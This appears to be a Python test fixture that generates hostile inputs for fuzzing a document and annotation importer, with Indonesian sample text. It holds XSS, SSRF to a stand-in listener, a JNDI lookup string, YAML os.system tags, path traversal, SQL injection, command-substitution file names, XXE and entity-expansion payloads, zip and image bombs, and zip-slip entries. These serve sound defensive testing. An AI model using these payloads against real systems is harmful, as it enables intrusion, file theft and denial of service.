"""What a stranger may put where a text, a number, a picture or a document is expected: the raw stuff of `generator`."""

import gzip
import io
import json
import struct
import zipfile
import zlib
from random import Random
from typing import Final

from tests.kb.importing.documents import archive, docx, odt, paragraph
from tests.kb.sample_pictures import GIF, JPEG, WEBP, exif, jpeg_with, png

HERE: Final = "{here}"  # where somebody listens who should never hear anything
BAIT: Final = "{bait}"  # a file outside of the library

TEXTS: Final = (
    '<img src="http://{here}/a.png"><b>tebal</b>',
    '<img src="file://{bait}">',
    "<a href='file://{bait}'>buka</a><script>alert(1)</script>",
    "![x](http://{here}/b.png) [y](file://{bait}) <http://{here}/>",
    "<!--" * 300,
    "\x1b]0;judul\x07\x1b[2J\x1b[31mmerah\x9b31m",
    "\u202egnp.exe\u2067\u200f\u2069",
    "\ufdd0\ufdd1\ufffe\uffff\U000e0001",
    "e\u0301" * 40 + "Z" + "\u0334" * 400,
    "%s%n{0.__class__}{here!r}${jndi:ldap://{here}/x}",
    '=HYPERLINK("http://{here}/")',
    "A" * 5_000,
    "kata " * 2_000,
    "\r\n\r\r\n",
    "\0nol\0",
    "'; DROP TABLE stories; --",
    "../../../../etc/passwd",
    "&#x1b;&lt;b&gt;&amp;amp;",
    "[^1][^2]\n\n[^1]: [^2]\n[^2]: [^1]",
    "| " * 300 + "\n" + "|-" * 300,
    "> " * 400 + "dalam",
    "*" * 3_000,
    "[" * 2_000,
    "`" * 999 + "x",
    "🏳️‍🌈👩‍👩‍👧‍👦" * 60,
    "ﷺ" * 300,
    "",
    " ",
)

VALUES: Final = (
    "null", "true", "~", "[]", "{}", "-0", "1e999", ".nan", "-.inf", "0x7fffffffffffffff", "9" * 400, "0o777",
    "2001-02-30", "0001-01-01", "9999-12-31T23:59:60Z", "-0001-01-01", "99999-01-01", "1:1:1:1", "!!binary aGFsbw==",
    "!!python/object/apply:os.system ['true']", "!!set {a, b}", "!!omap [a: 1]", "&a [*a]", "? [x]\n  : y", "<<: {a: 1}",
    "[" * 300 + "]" * 300, "{a: " * 200 + "1" + "}" * 200, "'" + "x" * 20_000 + "'", "|\n  \tbaris", ">+\n\n\n", "\"\\ud800\"",
    "[&x x, " + "*x, " * 400 + "]", "[1, [2, [3, {4: [5]}]]]", "{id: {id: {id: x}}}", "[{code: []}, 5, null]", "[a]: b", "- a\n  - b",
    "{code: '32.12', role: {}}", "[{organisation: ../../x, role: subject}]", "[{type: sequel, story: ../../x}]",
    "[{what: [], value: 9.9e999, evidence: 1}]", "[{event: {}, lesson: 5}]", "{withdrawn: 0000-00-00, kind: 7}",
    "[{decision: signed, by: {name: [x], key: {}}, date: year}]", "ed25519:AAAA", "[ed25519:!!!!]",
)  # fmt: skip

KEYS: Final = (
    "id", "title", "title_en", "summary", "kind", "language", "authors", "period", "issues", "methods", "settings", "roles",
    "outcomes", "regions", "actors", "participation", "claims", "lessons", "relations", "sources", "consent", "status",
    "reviews", "licence", "created", "modified", "version", "lain", "__class__", "stewards", "languages", "description",
)  # fmt: skip

PERIODS: Final = (
    "0001", "0000", "-5", "9999999999", "10000", "1995/1990", "../..", "1998~/x", "9999-99-99", "1995..2005", "/", "~", "1" * 5_000,
    "0001-01-01/9999-12-31", "2001-02-30", "२०२०", "1995\\u0000",
)  # fmt: skip

MOMENTS: Final = (
    "0001-01-01T00:00:00Z", "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "2020-01-01T00:00:00+99:99",
    "2020-01-01T24:00:00Z", "2020-13-41T99:99:99Z", "0000-00-00T00:00:00Z", "2020-01-01T00:00:60Z", "-2020-01-01T00:00:00Z",
    "2020-01-01T00:00:00.123456789123456789Z", "12020-01-01T00:00:00Z", "2020-W01-1T00:00:00Z", "9" * 300,
)  # fmt: skip

FILE_NAMES: Final = (
    "baris\nbaru", "\x1b[2J", "\u202egnp.exe", "a" * 250, "é" * 120, "cafe\u0301", "caf\u00e9", "CON", "NUL.txt", " ", "-rf", "..x", "~",
    "%00", "titik.", "<img src=x>", "$(touch x)", "`id`", ";", "'\"", "\\", "a:b", "\u200b", "\ufeff", "😀" * 60,
    "ANAK-JALANAN", "Anak-Jalanan", "story.md", "media", ".git", ".GIT", "git~1", ".git\u200c", ".review", "*", "?", "#", "[x]",
)  # fmt: skip
RAW_NAMES: Final = (b"caf\xe9", b"\xff\xfe", b"\x80" * 100, b"a\xc0\xaf", b"\xed\xa0\x80", b"baik\xf0\x28")


def text(chance: Random, here: str, bait: str) -> str:
    """Return one of the texts, with the places filled in."""
    return chance.choice(TEXTS).replace(HERE, here).replace(BAIT, bait)


def deep(opening: str, closing: str, depth: int) -> str:
    """Return a value nested as deep as is wished."""
    return opening * depth + closing * depth


def annotation(chance: Random, here: str, bait: str, note_id: str, story: str) -> bytes:  # noqa: PLR0911
    """Return a file of a note that is odd in one way or another."""
    words = text(chance, here, bait)
    odd = chance.choice((None, 5, -1e308, [], {}, [[[]]], words, True, {"type": words}, [words] * 50, "http://" + here))
    whole: dict[str, object] = {
        "@context": "http://www.w3.org/ns/anno.jsonld",
        "id": f"urn:uuid:{note_id}",
        "type": "Annotation",
        "motivation": "commenting",
        "body": [{"type": "TextualBody", "value": words, "format": "text/html", "purpose": "commenting"}],
        "target": {
            "type": "SpecificResource",
            "source": f"story:{story}",
            "selector": [{"type": "TextQuoteSelector", "exact": "Kami", "prefix": words}],
        },
        "created": chance.choice(MOMENTS),
        "modified": chance.choice(MOMENTS),
        "creator": {"type": "Person", "name": words, "email_sha1": "x"},
    }
    match chance.randrange(9):
        case 0:
            return deep("[", "]", chance.choice((50, 5_000, 200_000))).encode()
        case 1:
            return ('{"a":' * 30_000 + "1" + "}" * 30_000).encode()
        case 2:
            return json.dumps(whole)[: chance.randrange(400)].encode()
        case 3:
            return chance.randbytes(chance.randrange(3_000))
        case 4:
            return b'{"id":1,"id":2,"type":"Annotation","n":' + b"9" * 50_000 + b"}"
        case 5:
            return b"\xef\xbb\xbf" + json.dumps(whole, ensure_ascii=False).encode("utf-16")
        case _:
            for key in chance.sample(sorted(whole), chance.randrange(1, 4)):
                whole[key] = odd
            return json.dumps(whole).encode()


def picture(chance: Random, here: str, bait: str) -> bytes:  # noqa: PLR0911, PLR0912
    """Return what is no picture, or a picture to burst a decoder."""
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="99999" height="99999">'
        f'<image xlink:href="http://{here}/s.png" width="9" height="9"/><image xlink:href="file://{bait}" width="9" height="9"/>'
        + '<g filter="url(#f)">' * 50 + "<use xlink:href='#a'/>" * 50 + "</g>" * 50 + "</svg>"
    )  # fmt: skip
    match chance.randrange(13):
        case 0:
            return svg.encode()
        case 1:
            return gzip.compress(svg.encode())
        case 2:
            return png(60_000, 60_000)
        case 3:
            return png(5_000, 5_000)[: chance.randrange(20, 90)]
        case 4:
            return GIF[:6] + struct.pack("<HH", 65_535, 65_535) + GIF[10:]
        case 5:
            return JPEG[:-30] + chance.randbytes(30)
        case 6:
            return WEBP[:12] + chance.randbytes(60)
        case 7:
            return b"P6\n60000 60000\n255\n" + bytes(100)
        case 8:
            return b'/* XPM */\nstatic char *x[] = {\n"60000 60000 1 1",\n"a c #000000",\n'
        case 9:
            return b"%!PS-Adobe-3.0 EPSF-3.0\n(" + bait.encode() + b") run\n"
        case 10:
            return jpeg_with(0xE1, exif(1)) * 3
        case 11:
            return b"BM" + struct.pack("<IIIIIIHHI", 60, 0, 54, 40, 2**31 - 1, 2**31 - 1, 1, 24, 0) + bytes(30)
        case _:
            return png(
                4, 2, (b"tEXt", b"Comment\0" + svg.encode()), (b"zTXt", b"x\0\0" + zlib.compress(bytes(3_000_000)))
            )


_OUTER = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">{}<!ENTITY b SYSTEM "file://{}"> ]>'


def documents(chance: Random, here: str, bait: str) -> dict[str, bytes]:
    """Return some documents that somebody sent with the words that they be imported, by their names."""
    entities = "".join(f'<!ENTITY {two} "{f"&{one};" * 12}">' for one, two in zip("acdefghi", "cdefghij", strict=True))
    xml = _OUTER.format(entities, bait) + "<w:document><w:body><w:p>&j;&b;</w:p></w:body></w:document>"
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as whole:
        whole.writestr("word/document.xml", bytes(40_000_000))
        whole.writestr("[Content_Types].xml", bytes(1_000))
    out = (
        f"<w:p><w:r><w:t>{text(chance, here, bait).replace('<', '&lt;').replace('&', '&amp;')[:300]}</w:t></w:r></w:p>"
    )
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
        f'Target="http://{here}/d.png" TargetMode="External"/></Relationships>'
    )
    made = {
        "entitas.docx": archive([("[Content_Types].xml", xml), ("word/document.xml", xml)]),
        "bom.docx": bomb.getvalue(),
        "keluar.docx": docx([paragraph("Satu")], more=[("../../../luar.txt", b"x"), ("/tmp/luar.txt", b"x")]),
        "jauh.docx": docx([paragraph("Satu"), out], more=[("word/_rels/document.xml.rels", rels)]),
        "rusak.docx": docx([paragraph("Satu")])[: chance.randrange(20, 400)],
        "acak.odt": odt(paragraph("Satu"))[:-20] + chance.randbytes(20),
        "jauh.html": f'<html><head><base href="http://{here}/"><link rel=stylesheet href=a.css></head><body><img src=b.png>'
        f'<img src="file://{bait}"><iframe src="http://{here}/"></iframe><p>Satu</p></body></html>'.encode(),
        "ulasan.html": b"<p>" + b"<!--" * 400 + b"</p>",
        "dalam.html": b"<div>" * 8_000 + b"x",
        "kepala.md": b"---\n" + b"title: !!python/name:os.system\n" + b"a: " + b"[" * 5_000 + b"\n---\n\nIsi.\n",
        "teks.txt": text(chance, here, bait).encode("utf-8", "surrogatepass") + chance.randbytes(200),
        "utf16.txt": "Cerita panjang.\n".encode("utf-16"),
        "kaya.rtf": rb"{\rtf1{\field{\*\fldinst INCLUDEPICTURE " + f"http://{here}/r.png".encode() + rb"}}" + rb"{\b " * 3_000,
        "catatan.json": annotation(chance, here, bait, "0", "anak-jalanan"),
    }  # fmt: skip
    return {name: made[name] for name in chance.sample(sorted(made), 3)}
